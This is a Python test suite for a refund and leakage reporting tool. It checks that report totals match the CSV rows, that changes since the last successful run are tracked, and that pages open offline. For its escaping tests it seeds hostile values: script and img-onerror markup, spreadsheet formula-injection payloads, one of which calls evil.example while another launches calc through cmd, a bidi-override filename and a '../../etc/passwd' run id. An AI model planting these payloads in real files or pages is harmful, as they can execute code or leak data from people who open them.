"""Reports: totals that equal the CSV rows, the change since the previous successful run, hostile
values escaped in HTML and neutralised in CSV, pages that open offline. Real databases, no mocks."""

from __future__ import annotations

import csv
import json
import re
from collections import defaultdict
from datetime import datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest
from sqlalchemy import event, insert
from sqlalchemy.engine import Engine

from reconcile.db.schema import recon_refunds, recon_runs, recon_status_changes
from reconcile.leakage import CATEGORIES, FINDING_COLUMNS, stage_findings, write_findings
from reconcile.reports import (
    LEAKAGE_FILES,
    REFUND_FILES,
    REPORT_FILES,
    UnknownRun,
    generate_reports,
    write_reports,
)
from reconcile.reports.data import MOVED_ROWS, finding_rows, load_leakage_data, load_refund_data, refund_rows
from reconcile.reports.render import credits_once
from reconcile.reports.safe import FORMULA_START
from tests.platform import NOW, Platform

# Strings from the wild: markup, formula payloads, a bidi override, a 10 KB value.
SCRIPT_JOB = "<script>alert('job')</script>\"&amp;"
FORMULA_JOB = '=HYPERLINK("http://evil.example/?"&A1,"click")'
PLUS_USER = "+cmd|' /C calc'!A0"
AT_DETAIL = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS_JOB = "-2+3"
TAB_USER = "\t=1+2"
RTL_USER = "invoice\u202egnp.exe\u202c"
HOSTILE_VENDOR = "=<img src=x onerror=alert(1)>"
BIG = "A" * 10_000 + "<b>end</b>"

ALLOWED_TAGS = {
    "html", "head", "meta", "title", "style", "body", "h1", "h2", "p", "code", "div", "b", "figure",
    "figcaption", "svg", "text", "rect", "line", "polyline", "circle", "table", "thead", "tbody", "tfoot",
    "tr", "th", "td", "span",
}  # fmt: skip


# --- seeding -----------------------------------------------------------------------------------


def record_run(engine: Engine, run_id: str, started: datetime, status: str = "succeeded", **summary) -> None:
    with engine.begin() as conn:
        conn.execute(
            insert(recon_runs).values(
                run_id=run_id, started_at=started, finished_at=started + timedelta(seconds=30), status=status,
                scan_mode="full", ledger_watermark=0, config_hash="0" * 16, summary=json.dumps(summary),
            )
        )  # fmt: skip


def add_refund(engine: Engine, run_id: str, job_id: str, user_id: str, credits: int, reason: str) -> None:
    with engine.begin() as conn:
        conn.execute(
            insert(recon_refunds).values(
                job_id=job_id, user_id=user_id, credits=credits, reason=reason, run_id=run_id, created_at=NOW
            )
        )


def add_findings(engine: Engine, run_id: str, rows: list[tuple[str, str | None, str | None, int, str]]) -> None:
    """The run's findings, written as a pass writes them (stored once, read per run through the view)."""
    with engine.begin() as conn:
        stage_findings(conn, run_id, pd.DataFrame(rows, columns=FINDING_COLUMNS))
        write_findings(conn, run_id, NOW)


def add_change(engine: Engine, run_id: str, job_id: str, vendor: str, state: str, evidence: dict) -> None:
    with engine.begin() as conn:
        conn.execute(
            insert(recon_status_changes).values(
                job_id=job_id, from_status="processing", to_status="failed", vendor=vendor, vendor_state=state,
                evidence=json.dumps(evidence, ensure_ascii=False), run_id=run_id, changed_at=NOW,
            )
        )  # fmt: skip


def seed_hostile_run(engine: Engine, run_id: str = "run-hostile", started: datetime | None = None) -> None:
    """A run with refunds and findings across reasons, vendors and categories, full of hostile values."""
    platform = Platform(engine)
    jobs = [
        (SCRIPT_JOB, "u1", "fal", 40, "failed"),
        (FORMULA_JOB, PLUS_USER, "replicate", 25, "failed"),
        (MINUS_JOB, RTL_USER, "kie", 7, "failed"),
        ("job-big", TAB_USER, "fal", 3, "failed"),
        ("job-plain", "u2", "replicate", 11, "failed"),
        ("job-stuck", "u3", "kie", 9, "processing"),
        ("job-badvendor", "u4", HOSTILE_VENDOR, 5, "processing"),
    ]
    for job_id, user, vendor, credits, status in jobs:
        platform.job(job_id, user_id=user, vendor=vendor, credits=credits, status=status)
    record_run(engine, run_id, started or NOW, stuck=4, findings=6)
    add_refund(engine, run_id, SCRIPT_JOB, "u1", 40, "vendor_failed")
    add_refund(engine, run_id, FORMULA_JOB, PLUS_USER, 25, "vendor_failed")
    add_refund(engine, run_id, MINUS_JOB, RTL_USER, 7, "never_dispatched")
    add_refund(engine, run_id, "job-big", TAB_USER, 3, "vendor_failed")
    add_refund(engine, run_id, "job-plain", "u2", 11, "never_dispatched")
    add_change(engine, run_id, SCRIPT_JOB, "fal", "failed", {"state": "failed", "excerpt": "<script>x</script>"})
    add_change(engine, run_id, "job-big", "fal", "failed", {"state": "failed", "excerpt": BIG})
    add_findings(
        engine,
        run_id,
        [
            ("stuck_unresolved", "job-stuck", "u3", 9, "processing since ..., charged, not refunded"),
            ("invalid_job", "job-badvendor", "u4", 5, f"unknown vendor {HOSTILE_VENDOR!r}"),
            ("failed_unrefunded", MINUS_JOB, RTL_USER, 7, AT_DETAIL),
            ("charge_mismatch", FORMULA_JOB, PLUS_USER, 3, BIG),
            ("orphan_transaction", None, "u9", 12, "refund transaction id=7 for a job that does not exist"),
            ("orphan_transaction", "ghost", "u9", 4, "charge transaction id=8 for a job that does not exist"),
        ],
    )


# --- reading the files back ----------------------------------------------------------------------


def read_csv(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


class Page(HTMLParser):
    """Every tag and attribute of a page, the text of every table row by table id, and all text."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.tables: dict[str, list[tuple[dict, list[str]]]] = defaultdict(list)
        self.style = ""
        self.text: list[str] = []
        self._table: list[str | None] = []
        self._row: tuple[dict, list[str]] | None = None
        self._in_cell = False
        self._in_style = False
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        self.tags.append((tag, attributes))
        if tag == "table":
            self._table.append(attributes.get("id"))
        elif tag == "tr" and self._table:
            self._row = (attributes, [])
        elif tag in ("td", "th") and self._row is not None:
            self._row[1].append("")
            self._row[0].setdefault("_cells", tag)  # the row's first cell tag: th for a header row
            self._in_cell = True
        elif tag == "style":
            self._in_style = True

    def handle_endtag(self, tag):
        if tag == "table" and self._table:
            self._table.pop()
        elif tag == "tr" and self._row is not None:
            if self._table and self._table[-1]:
                self.tables[self._table[-1]].append(self._row)
            self._row = None
        elif tag in ("td", "th"):
            self._in_cell = False
        elif tag == "style":
            self._in_style = False

    def handle_data(self, data):
        self.text.append(data)
        if self._in_style:
            self.style += data
        if self._in_cell and self._row is not None:
            self._row[1][-1] += data

    def totals(self, table_id: str) -> tuple[dict[str, tuple[int, int]], tuple[int, int]]:
        """{data-key: (rows, credits)} of a totals table, and its total row."""
        groups, total = self.keyed(table_id), None
        for attrs, cells in self.tables[table_id]:
            if attrs.get("data-total"):
                total = (_int(cells[1]), _int(cells[2]))
        assert total is not None, f"{table_id} has no total row"
        return groups, total

    def keyed(self, table_id: str) -> dict[str, tuple[int, int]]:
        """{data-key: (rows, credits)} of a table whose rows carry data-key."""
        return {a["data-key"]: (_int(c[1]), _int(c[2])) for a, c in self.tables[table_id] if "data-key" in a}

    def body_rows(self, table_id: str) -> list[list[str]]:
        return [cells for attrs, cells in self.tables[table_id] if attrs.get("_cells") == "td"]


def _int(text: str) -> int:
    return int(text.replace(",", "").strip())


def csv_totals(rows: list[dict[str, str]], column: str) -> dict[str, tuple[int, int]]:
    out: dict[str, list[int]] = defaultdict(lambda: [0, 0])
    for row in rows:
        out[row[column]][0] += 1
        out[row[column]][1] += int(row["credits"])  # integers only: int("3.0") would fail
    return {k: (v[0], v[1]) for k, v in out.items()}


def files(paths: list[Path]) -> dict[str, Path]:
    return {p.name: p for p in paths}


# --- tests -------------------------------------------------------------------------------------------


def test_html_totals_equal_the_sums_of_the_csv_rows(db, tmp_path: Path) -> None:
    seed_hostile_run(db.engine)
    out = files(write_reports(db.engine, "run-hostile", tmp_path, NOW))
    assert list(out) == list(REPORT_FILES)

    refunds = read_csv(out["refunds.csv"])
    assert len(refunds) == 5 and sum(int(r["credits"]) for r in refunds) == 86
    page = Page(out["refunds.html"].read_text(encoding="utf-8"))
    for table, column in (("totals-by-reason", "reason"), ("totals-by-vendor", "vendor")):
        groups, total = page.totals(table)
        assert groups == csv_totals(refunds, column), table
        assert total == (len(refunds), sum(int(r["credits"]) for r in refunds))
    assert page.totals("totals-by-reason")[0] == {"vendor_failed": (3, 68), "never_dispatched": (2, 18)}

    findings = read_csv(out["leakage.csv"])
    assert len(findings) == 6 and sum(int(r["credits"]) for r in findings) == 40
    page = Page(out["leakage.html"].read_text(encoding="utf-8"))
    groups, total = page.totals("totals-by-category")
    by_category = csv_totals(findings, "category")
    assert {k: v for k, v in groups.items() if v[0]} == by_category
    assert set(groups) >= set(CATEGORIES)  # every category listed, the empty ones at zero
    assert all(v == (0, 0) for k, v in groups.items() if k not in by_category)
    assert total == (6, 40)
    groups, total = page.totals("totals-by-vendor")
    assert groups == csv_totals(findings, "vendor") and total == (6, 40)
    assert groups[""] == (2, 16)  # the orphan transactions: no job, no vendor
    summary = page.keyed("change-summary")
    assert summary["new"] == csv_totals(findings, "change")["new"]  # first run: everything is new
    assert summary["persisting"] == (0, 0) and summary["resolved"] == (0, 0)


def test_new_persisting_and_resolved_against_the_previous_successful_run(db, tmp_path: Path) -> None:
    engine = db.engine
    record_run(engine, "run-a", NOW - timedelta(minutes=30), stuck=5)
    add_findings(
        engine,
        "run-a",
        [
            ("failed_unrefunded", "j1", "u1", 10, "failed, charged 10, refunded 0"),  # resolved
            ("stuck_unresolved", "j2", "u2", 20, "pending since x"),  # persisting
            ("charge_mismatch", "j3", "u3", 3, "ledger charged 13, job says 10"),  # detail changes: resolved
            ("orphan_transaction", None, "u4", 8, "refund transaction id=1"),  # persisting, no job id
        ],
    )
    # A failed pass in between is never the baseline, even though it is more recent.
    record_run(engine, "run-failed", NOW - timedelta(minutes=15), status="failed")
    add_findings(engine, "run-failed", [("duplicate_charge", "j2", "u2", 99, "2 charge rows")])
    record_run(engine, "run-b", NOW, stuck=2)
    add_findings(
        engine,
        "run-b",
        [
            ("stuck_unresolved", "j2", "u2", 20, "pending since x"),
            ("charge_mismatch", "j3", "u3", 5, "ledger charged 15, job says 10"),  # new
            ("orphan_transaction", None, "u4", 8, "refund transaction id=1"),
            ("missing_charge", "j4", "u5", 6, "completed, credits_charged 6, no charge row"),  # new
        ],
    )

    out = files(write_reports(engine, "run-b", tmp_path, NOW))
    changes = {(r["category"], r["job_id"]): r["change"] for r in read_csv(out["leakage.csv"])}
    assert changes == {
        ("stuck_unresolved", "j2"): "persisting",
        ("charge_mismatch", "j3"): "new",
        ("orphan_transaction", ""): "persisting",
        ("missing_charge", "j4"): "new",
    }
    page = Page(out["leakage.html"].read_text(encoding="utf-8"))
    summary = page.keyed("change-summary")
    assert summary == {"new": (2, 11), "persisting": (2, 28), "resolved": (2, 13)}
    resolved = {(cells[0], cells[1], cells[6]) for cells in page.body_rows("resolved")}
    assert resolved == {
        ("failed_unrefunded", "j1", "failed, charged 10, refunded 0"),
        ("charge_mismatch", "j3", "ledger charged 13, job says 10"),
    }
    assert "run-a" in "".join(page.text)

    with engine.connect() as conn:
        data = load_leakage_data(conn, "run-b")
        failed = load_leakage_data(conn, "run-failed")
    assert data.previous_run_id == "run-a"
    assert [p.run_id for p in data.history] == ["run-a", "run-b"]  # the failed pass is not in the history
    assert [(p.stuck, p.findings, p.credits_at_stake) for p in data.history] == [(5, 4, 41), (2, 4, 39)]

    # The failed pass's own report compares with the last success before it; the first run has none.
    assert failed.previous_run_id == "run-a"
    first = files(write_reports(engine, "run-a", tmp_path, NOW))
    assert {r["change"] for r in read_csv(first["leakage.csv"])} == {"new"}


def test_hostile_values_are_escaped_in_html_and_neutralised_in_csv(db, tmp_path: Path) -> None:
    seed_hostile_run(db.engine)
    out = files(write_reports(db.engine, "run-hostile", tmp_path, NOW))
    for name in ("refunds.html", "leakage.html"):
        raw = out[name].read_text(encoding="utf-8")
        page = Page(raw)
        tags = {tag for tag, _ in page.tags}
        assert tags <= ALLOWED_TAGS, (name, tags - ALLOWED_TAGS)  # no <script>, no <img> from the data
        assert not [(t, a) for t, attrs in page.tags for a in attrs if a.startswith("on")]
        assert "<script" not in raw.lower() and "<img" not in raw.lower() and "<b>end" not in raw
        assert "\u202e" not in raw and "\u202c" not in raw and "\t" not in raw  # shown as ⟨U+202E⟩ instead
        assert len(raw) < 200_000  # 10 KB values are cut in the page (they stay whole in the CSV)
    text = "".join(Page(out["refunds.html"].read_text(encoding="utf-8")).text)
    assert SCRIPT_JOB in text  # shown to the reader as text, exactly
    assert "invoice⟨U+202E⟩gnp.exe⟨U+202C⟩" in text
    assert "in full in the CSV" in text
    leakage_text = "".join(Page(out["leakage.html"].read_text(encoding="utf-8")).text)
    assert HOSTILE_VENDOR in leakage_text  # the unknown vendor, as text, in the totals and the chart

    for name in ("refunds.csv", "leakage.csv"):
        with open(out[name], encoding="utf-8-sig", newline="") as f:
            cells = [cell for row in csv.reader(f) for cell in row]
        dangerous = [c for c in cells if c and c[0] in FORMULA_START]
        assert dangerous == [], (name, dangerous)
    refunds = {r["job_id"]: r for r in read_csv(out["refunds.csv"])}
    assert set(refunds) == {SCRIPT_JOB, "'" + FORMULA_JOB, "'" + MINUS_JOB, "job-big", "job-plain"}
    assert refunds["'" + FORMULA_JOB]["user_id"] == "'" + PLUS_USER
    assert refunds["job-big"]["user_id"] == "'" + TAB_USER
    assert refunds[SCRIPT_JOB]["evidence"] == json.dumps({"state": "failed", "excerpt": "<script>x</script>"})
    assert BIG in refunds["job-big"]["evidence"]  # the CSV keeps the whole value
    assert refunds["'" + MINUS_JOB]["user_id"] == RTL_USER  # kept as data; the CSV is for machines too
    leakage = {(r["category"], r["job_id"]): r for r in read_csv(out["leakage.csv"])}
    assert leakage[("failed_unrefunded", "'" + MINUS_JOB)]["detail"] == "'" + AT_DETAIL
    assert leakage[("charge_mismatch", "'" + FORMULA_JOB)]["detail"] == BIG
    assert leakage[("invalid_job", "job-badvendor")]["vendor"] == "'" + HOSTILE_VENDOR


def test_pages_open_offline(db, tmp_path: Path) -> None:
    seed_hostile_run(db.engine)
    out = files(write_reports(db.engine, "run-hostile", tmp_path, NOW))
    for name in ("refunds.html", "leakage.html"):
        page = Page(out[name].read_text(encoding="utf-8"))
        tags = [tag for tag, _ in page.tags]
        for forbidden in ("script", "link", "iframe", "img", "object", "embed", "base", "image", "use"):
            assert forbidden not in tags, (name, forbidden)
        for tag, attrs in page.tags:
            for attr in ("src", "href", "xlink:href", "srcset", "action", "data", "poster"):
                assert attr not in attrs, (name, tag, attr)
            assert not any("://" in (v or "") for k, v in attrs.items() if k != "content"), (name, tag, attrs)
        assert "url(" not in page.style and "@import" not in page.style and "@font-face" not in page.style
        csp = [a["content"] for t, a in page.tags if t == "meta" and a.get("http-equiv") == "Content-Security-Policy"]
        assert csp and "default-src 'none'" in csp[0] and "script-src" not in csp[0]
        assert "svg" in tags and "table" in tags  # the charts are inline SVG


def test_charts_show_the_totals(db, tmp_path: Path) -> None:
    seed_hostile_run(db.engine)
    out = files(write_reports(db.engine, "run-hostile", tmp_path, NOW))
    page = Page(out["refunds.html"].read_text(encoding="utf-8"))
    titles = [t for t in page.text if t.endswith(" credits")]
    assert "fal: 43 credits" in titles and "replicate: 36 credits" in titles and "kie: 7 credits" in titles
    page = Page(out["leakage.html"].read_text(encoding="utf-8"))
    titles = [t for t in page.text if t.endswith(" credits")]
    assert "stuck_unresolved: 9 credits" in titles and "orphan_transaction: 16 credits" in titles
    bars = [a for t, a in page.tags if t == "rect"]
    assert all(float(a["width"]) >= 0 for a in bars) and len(bars) >= 5


def test_writing_again_rewrites_the_same_folder(db, tmp_path: Path) -> None:
    seed_hostile_run(db.engine, started=datetime(2025, 3, 4, 5, 6, 7, tzinfo=NOW.tzinfo))
    first = generate_reports(db.engine, "run-hostile", tmp_path, NOW)
    again = write_reports(db.engine, "run-hostile", tmp_path, NOW + timedelta(hours=2))
    assert first.folder.name == "20250304T050607Z_run-hostile"
    assert again == first.paths and [p.name for p in tmp_path.iterdir()] == [first.folder.name]
    assert sorted(p.name for p in first.folder.iterdir()) == sorted(REPORT_FILES)  # no temporary files left
    assert (first.refunds, first.credits_refunded, first.findings, first.credits_at_stake) == (5, 86, 6, 40)


def test_the_refund_and_the_leakage_report_written_apart_are_the_whole_set_in_one_folder(db, tmp_path: Path) -> None:
    """The pass writes them in two steps side by side: the same files, byte for byte, in the same folder."""
    seed_hostile_run(db.engine, started=datetime(2025, 3, 4, 5, 6, 7, tzinfo=NOW.tzinfo))
    whole = generate_reports(db.engine, "run-hostile", tmp_path / "whole", NOW)
    refunds = generate_reports(db.engine, "run-hostile", tmp_path / "apart", NOW, files=REFUND_FILES)
    assert [p.name for p in refunds.paths] == list(REFUND_FILES)
    assert sorted(p.name for p in refunds.folder.iterdir()) == sorted(REFUND_FILES)
    leakage = generate_reports(db.engine, "run-hostile", tmp_path / "apart", NOW, files=LEAKAGE_FILES)
    assert leakage.folder == refunds.folder and [p.name for p in leakage.paths] == list(LEAKAGE_FILES)
    assert {p.name: p.read_bytes() for p in whole.paths} == {
        p.name: p.read_bytes() for p in [*refunds.paths, *leakage.paths]
    }
    with pytest.raises(ValueError, match="no report file"):
        generate_reports(db.engine, "run-hostile", tmp_path, NOW, files=["refunds.pdf"])


def test_each_report_reads_only_its_own_figures(db, tmp_path: Path) -> None:
    """Side by side in the pass, the refund report reads none of the findings and the leakage report none
    of the refunds and holds, but for the runs' history that both pages chart (one grouped total per run)."""
    seed_hostile_run(db.engine)
    statements: list[str] = []

    def seen(conn, cursor, statement, parameters, context, executemany) -> None:
        if not re.search(r"GROUP BY recon_(leakage_findings|refunds)\.run_id", statement):  # the history
            statements.append(statement)

    event.listen(db.engine, "before_cursor_execute", seen)
    try:
        refunds = generate_reports(db.engine, "run-hostile", tmp_path, NOW, files=REFUND_FILES)
        refund_statements, statements[:] = list(statements), []
        leakage = generate_reports(db.engine, "run-hostile", tmp_path, NOW, files=LEAKAGE_FILES)
    finally:
        event.remove(db.engine, "before_cursor_execute", seen)
    assert refunds.refunds > 0 and leakage.findings > 0  # both have rows to read
    assert [s for s in refund_statements if "recon_refunds" in s]
    assert not [s for s in refund_statements if re.search(r"\brecon_(leakage_findings|findings|finding_runs)\b", s)]
    assert [s for s in statements if "recon_findings" in s]
    # The leakage report's job facts do read the holds, by job: never the run's holds or its refunds.
    assert not [s for s in statements if re.search(r"\brecon_refunds\b|\brecon_refund_holds\.run_id\b", s)]
    assert refunds.leakage_data is None and leakage.refund_data is None
    with pytest.raises(ValueError, match="no leakage report was written"):
        refunds.changes()


def test_a_run_id_cannot_escape_the_reports_dir_and_unknown_runs_are_refused(db, tmp_path: Path) -> None:
    record_run(db.engine, "../../etc/passwd", NOW)
    paths = write_reports(db.engine, "../../etc/passwd", tmp_path / "reports", NOW)
    assert all((tmp_path / "reports") in p.parents for p in paths)
    with pytest.raises(UnknownRun):
        write_reports(db.engine, "no-such-run", tmp_path / "reports", NOW)


def test_a_run_without_refunds_or_findings_still_gets_its_reports(db, tmp_path: Path) -> None:
    record_run(db.engine, "quiet", NOW)
    out = files(write_reports(db.engine, "quiet", tmp_path, NOW))
    assert read_csv(out["refunds.csv"]) == [] and read_csv(out["leakage.csv"]) == []
    page = Page(out["leakage.html"].read_text(encoding="utf-8"))
    assert page.totals("totals-by-category")[1] == (0, 0)
    assert Page(out["refunds.html"].read_text(encoding="utf-8")).totals("totals-by-vendor") == ({}, (0, 0))


def test_html_lists_the_largest_rows_and_points_to_the_csv_for_the_rest(db, tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setattr("reconcile.reports.render.HTML_ROW_LIMIT", 3)
    record_run(db.engine, "big", NOW)
    for i in range(7):
        add_refund(db.engine, "big", f"job-{i}", f"user-{i}", credits=10 + i, reason="vendor_failed")
    out = files(write_reports(db.engine, "big", tmp_path, NOW))
    assert len(read_csv(out["refunds.csv"])) == 7  # every row in the CSV
    html = out["refunds.html"].read_text(encoding="utf-8")
    assert "4 more rows are in refunds.csv (the totals above count every row)." in html
    listed = [f"job-{i}" for i in range(7) if f">job-{i}<" in html]
    assert listed == ["job-4", "job-5", "job-6"]  # the three largest refunds
    assert Page(html).totals("totals-by-reason")[1] == (7, sum(range(10, 17)))


def test_a_finding_whose_credits_changed_is_the_same_finding(db, tmp_path: Path) -> None:
    """Stored intervals end when the credits change, but to a person it is the same finding: persisting,
    not new (and not resolved): the key is (category, job_id, detail), as before the SQL marking."""
    record_run(db.engine, "run-a", NOW - timedelta(minutes=15))
    add_findings(db.engine, "run-a", [("stuck_unresolved", "j1", "u1", 10, "pending since x"),
                                      ("orphan_transaction", None, "u2", 4, "charge id=3")])  # fmt: skip
    record_run(db.engine, "run-b", NOW)
    add_findings(db.engine, "run-b", [("stuck_unresolved", "j1", "u1", 12, "pending since x"),
                                      ("orphan_transaction", None, "u2", 5, "charge id=3")])  # fmt: skip
    out = files(write_reports(db.engine, "run-b", tmp_path, NOW))
    assert {r["change"] for r in read_csv(out["leakage.csv"])} == {"persisting"}
    page = Page(out["leakage.html"].read_text(encoding="utf-8"))
    assert page.keyed("change-summary") == {"new": (0, 0), "persisting": (2, 17), "resolved": (0, 0)}


def test_csv_rows_are_read_and_written_a_chunk_at_a_time(db, tmp_path: Path, monkeypatch) -> None:
    """However large the run, the CSVs never hold more than a chunk of rows: the same files, read two
    rows at a time, as in one chunk."""
    seed_hostile_run(db.engine)
    whole = {p.name: p.read_bytes() for p in generate_reports(db.engine, "run-hostile", tmp_path / "a", NOW).paths}
    import reconcile.reports.data as data

    chunks: list[int] = []
    stream = data._stream

    def counted(conn, query, chunk_rows):
        for rows in stream(conn, query, chunk_rows):
            chunks.append(len(rows))
            yield rows

    monkeypatch.setattr(data, "_stream", counted)
    small = generate_reports(db.engine, "run-hostile", tmp_path / "b", NOW, chunk_rows=2)
    assert {p.name: p.read_bytes() for p in small.paths} == whole
    assert max(chunks) == 2 and sum(c for c in chunks if c <= 2) >= 5 + 6  # every refund and finding, by twos


def test_credits_at_stake_counted_in_sql_follow_the_rule_over_the_rows(db, tmp_path: Path) -> None:
    """Each job's largest finding once (never below zero), plus every finding without a job ("" too)."""
    record_run(db.engine, "run-a", NOW)
    add_findings(
        db.engine,
        "run-a",
        [
            ("stuck_unresolved", "j1", "u1", 10, "a"),
            ("charge_mismatch", "j1", "u1", 3, "b"),  # j1 once: 10
            ("duplicate_refund", "j2", "u2", -4, "c"),  # never below zero: 0
            ("orphan_transaction", None, "u3", 7, "d"),
            ("orphan_transaction", None, "u3", 2, "e"),
            ("orphan_transaction", "", "u3", 1, "f"),  # no job: counted as it is
        ],
    )
    reports = generate_reports(db.engine, "run-a", tmp_path, NOW)
    with db.engine.connect() as conn:
        rows = finding_rows(conn, "run-a")
    assert reports.credits_at_stake == credits_once(rows) == 10 + 0 + 7 + 2 + 1


def test_the_largest_new_and_resolved_findings_and_refunds_for_the_step(db) -> None:
    """The step's metadata lists the largest rows, chosen in SQL: the same as sorting every row."""
    record_run(db.engine, "run-a", NOW - timedelta(minutes=15))
    add_findings(db.engine, "run-a", [(c, f"j{i}", "u", i % 7, f"d{i}") for i, c in enumerate(CATEGORIES * 4)])
    record_run(db.engine, "run-b", NOW)
    add_findings(db.engine, "run-b", [(c, f"j{i}", "u", i % 5, f"d{i}") for i, c in enumerate(CATEGORIES * 9)
                                      if i % 3])  # fmt: skip
    for i in range(25):
        add_refund(db.engine, "run-b", f"r{i}", "u", credits=i % 6, reason="vendor_failed")
    with db.engine.connect() as conn:
        data = load_leakage_data(conn, "run-b", shown=12)
        refund_data = load_refund_data(conn, "run-b", shown=12)
        every = [*finding_rows(conn, "run-b"), *finding_rows(conn, "run-a")]
        refunds = refund_rows(conn, "run-b")
    assert data.changes["new"].rows > MOVED_ROWS // 2 and data.changes["resolved"].rows > 0
    current, previous = every[: data.findings.rows], every[data.findings.rows :]
    new = [f for f in current if f.key not in {g.key for g in previous}]
    resolved = [f for f in previous if f.key not in {g.key for g in current}]
    # The largest credits first; among equals new before resolved, then by category, job and detail.
    expected = sorted(new + resolved, key=lambda f: (-f.credits, f in resolved, f.category, f.job_id, f.detail))
    expected = expected[:MOVED_ROWS]
    assert [(f.key, f.credits) for f in data.top_moved] == [(f.key, f.credits) for f in expected]
    assert {f.change for f in data.top_moved} == {"new", "resolved"}
    assert [r.job_id for r in refund_data.top_refunds] == [r.job_id for r in refunds[:12]]
    assert refund_data.refunds == (25, sum(i % 6 for i in range(25)))
